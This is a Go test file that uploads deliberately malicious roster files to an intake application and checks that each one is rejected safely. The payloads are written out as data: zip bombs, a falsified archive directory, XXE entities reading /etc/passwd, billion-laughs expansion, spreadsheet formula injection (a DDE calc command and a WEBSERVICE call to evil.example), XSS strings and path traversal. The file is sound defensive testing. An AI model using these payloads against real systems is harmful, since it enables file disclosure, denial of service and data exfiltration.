package app_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"cailiao/app/apptest"
	"cailiao/intake"
)

// blanks stands for 300 MB of them.
const blanks = "<!-- blanks -->"

// zipped is an archive of named files, in the order given: name, content, name, content, …
func zipped(t testing.TB, parts ...string) string {
	t.Helper()
	var file bytes.Buffer
	archive := zip.NewWriter(&file)
	for i := 0; i+1 < len(parts); i += 2 {
		f, err := archive.Create(parts[i])
		before, after, bomb := strings.Cut(parts[i+1], blanks)
		for k := 0; bomb && err == nil && k < 300; k++ {
			_, err = io.WriteString(f, before+strings.Repeat(" ", 1<<20))
			before = ""
		}
		if err == nil {
			_, err = io.WriteString(f, before+after)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := archive.Close(); err != nil {
		t.Fatal(err)
	}
	return file.String()
}

// workbook is an .xlsx whose one sheet holds these rows, as XML; before stands in front of the sheet's
// first element, shared in place of the table of shared texts.
func workbook(t testing.TB, before, rows, shared string) string {
	t.Helper()
	const ns = ` xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	const rel = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	return zipped(t,
		"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>`+
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
		"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+rel+`officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml", `<workbook`+ns+`><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+rel+`worksheet" Target="worksheets/sheet1.xml"/>`+
			`<Relationship Id="rId2" Type="`+rel+`sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml", before+`<worksheet`+ns+`><sheetData>`+rows+`</sheetData></worksheet>`,
		"xl/sharedStrings.xml", shared)
}

const noTexts = `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`

// sheetRow is the n-th row of a sheet.
func sheetRow(n int, cells ...string) string {
	var row strings.Builder
	fmt.Fprintf(&row, `<row r="%d">`, n)
	for i, cell := range cells {
		fmt.Fprintf(&row, `<c r="%c%d" t="inlineStr"><is><t>%s</t></is></c>`, 'A'+i, n, cell)
	}
	return row.String() + "</row>"
}

var (
	jobVersion = regexp.MustCompile(`name="version" value="(\d+)"`)
	alive      = regexp.MustCompile(`root:x:|hahaha|<script>alert|<img src=x`) // what has come out of a file
	jobField   = regexp.MustCompile(`<select name="field"`)
)

// bringIn uploads a roster over the page and goes on as far as the page lets one, up to the import:
// what the page says at the end.
func (b *battlefield) bringIn(client *http.Client, name, file string) string {
	b.t.Helper()
	got := b.upload(client, name, file)
	if got.status != http.StatusSeeOther {
		return fmt.Sprint(got.status)
	}
	at := got.header.Get("Location")
	page := b.ask(client, http.MethodGet, at, nil).body
	if alive.MatchString(page) {
		return "alive on the page"
	}
	version := jobVersion.FindStringSubmatch(page)
	if version == nil {
		return "no form"
	}
	fields := make([]string, len(jobField.FindAllString(page, -1)))
	copy(fields, []string{"number", "name", "id_type", "id_number", "phone", "site"})
	if job, _, err := b.Desk.RosterJob(b.t.Context(), b.staff("area-one"), jobID(at)); err == nil && len(job.Fields) == len(fields) {
		copy(fields, job.Fields)
	}
	if got := b.ask(client, http.MethodPost, at+"/columns", url.Values{"version": {version[1]}, "field": fields}); got.status != http.StatusSeeOther {
		return fmt.Sprintf("columns %d", got.status)
	}
	for began := time.Now(); time.Since(began) < 15*time.Second; time.Sleep(50 * time.Millisecond) {
		switch page = b.ask(client, http.MethodGet, at, nil).body; {
		case alive.MatchString(page):
			return "alive on the page"
		case strings.Contains(page, "没有成功"):
			return "failed"
		case strings.Contains(page, "没有问题"):
			return "clean"
		case strings.Contains(page, "处问题，没有导入"):
			return "problems"
		}
	}
	return "no end"
}

func (b *battlefield) staff(name string) intake.Staff {
	who, err := b.DB.StaffByName(b.t.Context(), name)
	if err != nil {
		b.t.Fatal(err)
	}
	return who
}

func jobID(at string) (id int64) {
	fmt.Sscan(filepath.Base(at), &id)
	return id
}

func rowsFrom2(n int) string {
	var rows strings.Builder
	for i := range n {
		fmt.Fprintf(&rows, `<row r="%d"><c><v>1</v></c></row>`, i+2)
	}
	return rows.String()
}

// Roster files made to hurt, brought in over the page as far as it goes: soon an answer, little
// memory, and nobody new.
func TestRostersThatAreWeapons(t *testing.T) {
	good := apptest.RosterCSV(apptest.People[:1])
	head, line, _ := strings.Cut(good, "\n")
	titles, cells := strings.Split(head, ","), strings.Split(strings.TrimSpace(line), ",")
	with := func(column int, cell string) string {
		changed := append([]string(nil), cells...)
		changed[column] = cell
		return workbook(t, "", sheetRow(1, titles...)+sheetRow(2, changed...), noTexts)
	}
	lying := []byte(workbook(t, "", sheetRow(1, titles...)+sheetRow(2, cells...), noTexts))
	for at := 0; ; at++ { // every size in the archive's directory says 4 GB
		next := bytes.Index(lying[at:], []byte("PK\x01\x02"))
		if next < 0 {
			break
		}
		at += next
		copy(lying[at+24:], "\xfe\xff\xff\xff")
	}
	deep := strings.Repeat("<c>", 100_000)
	nest := "PK"
	for range 5 {
		nest = zipped(t, "roster.xlsx", nest)
	}
	rows := []struct{ name, title, file, want string }{
		{"an honest one", "名单.xlsx", with(0, cells[0]), "clean"},
		{"300 MB of blanks in 300 KB", "x.xlsx", workbook(t, "", sheetRow(1, titles...)+blanks, noTexts), "422"},
		{"300 MB of blanks among the shared texts", "x.xlsx", workbook(t, "", sheetRow(1, titles...), strings.Replace(noTexts, "/>", ">"+blanks+"</sst>", 1)), "422"},
		{"4 GB, says its directory", "x.xlsx", string(lying), "422"},
		{"a million rows", "x.xlsx", workbook(t, "", sheetRow(1, titles...)+rowsFrom2(1_000_000), noTexts), "failed"},
		{"a row that says it is the two-billionth", "x.xlsx", workbook(t, "", sheetRow(1, titles...)+`<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>`, noTexts), "422"},
		{"a column beyond all columns", "x.xlsx", workbook(t, "", `<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>`, noTexts), "422"},
		{"cells within cells", "x.xlsx", workbook(t, "", deep, noTexts), "columns 422"},
		{"archives within archives", "x.xlsx", nest, "422"},
		{"external entities in the sheet", "x.xlsx", workbook(t, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, sheetRow(1, titles...)+sheetRow(2, "&e;", "&e;"), noTexts), "problems"},
		{"external entities in the shared texts", "x.xlsx", workbook(t, "", sheetRow(1, titles...)+`<row r="2"><c r="A2" t="s"><v>0</v></c></row>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`+strings.Replace(noTexts, "/>", "><si><t>&e;</t></si></sst>", 1)), "422"},
		{"a billion laughs", "x.xlsx", workbook(t, `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`, sheetRow(1, titles...)+sheetRow(2, "&b;"), noTexts), "problems"},
		{"a shared text that is not there", "x.xlsx", workbook(t, "", sheetRow(1, titles...)+`<row r="2"><c r="A2" t="s"><v>999999999</v></c></row>`, noTexts), "problems"},
		{"a formula for a name", "x.xlsx", with(1, "=cmd|' /C calc'!A0"), "problems"},
		{"a formula behind a cell", "x.xlsx", workbook(t, "", sheetRow(1, titles...)+`<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>1</v></c></row>`, noTexts), "problems"},
		{"script for a name", "x.xlsx", with(1, "&lt;script&gt;alert(1)&lt;/script&gt;"), "problems"},
		{"a path for a number", "x.xlsx", with(0, "../../../../tmp/x"), "problems"},
		{"script for a title", "x.xlsx", workbook(t, "", sheetRow(1, append([]string{"&lt;img src=x onerror=alert(1)&gt;"}, titles[1:]...)...)+sheetRow(2, cells...), noTexts), "columns 422"},
		{"a file name that is a path and a header", "../../etc/<script>alert(1)</script>\r\nX: y.csv", good, "clean"},
		{"a page", "x.csv", "<html>" + payload, "columns 422"},
		{"an old workbook", "x.xls", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + payload, "422"},
		{"a broken workbook", "x.xlsx", "PK\x03\x04" + payload, "422"},
		{"nothing", "x.csv", "", "columns 422"},
		{"zeros", "x.csv", strings.Repeat("\x00", 1<<20), "422"},
		{"one endless line", "x.csv", strings.Repeat("报名号,", 300_000), "422"},
		{"20 MB and a byte", "x.csv", strings.Repeat("1,2,3\n", 20<<20/6) + "1,2,3", "422"},
		{"30 MB", "x.csv", strings.Repeat("1,2,3\n", 30<<20/6), "413"},
	}
	b := newBattlefield(t)
	client := b.signIn("area-one")
	for _, row := range rows {
		began := time.Now()
		got := b.unchanged("candidates submissions staff", func() string { return b.bringIn(client, row.title, row.file) })
		if got != row.want {
			t.Errorf("%s: got %q, want %q", row.name, got, row.want)
		}
		if took := time.Since(began); took > 3*time.Minute { // no measure of speed: what is meant to hang would for hours
			t.Errorf("%s took %s", row.name, took)
		}
	}
	runtime.GC()
	var m runtime.MemStats
	if runtime.ReadMemStats(&m); m.Sys > 600<<20 {
		t.Errorf("%d MB were taken from the system", m.Sys>>20)
	}
}
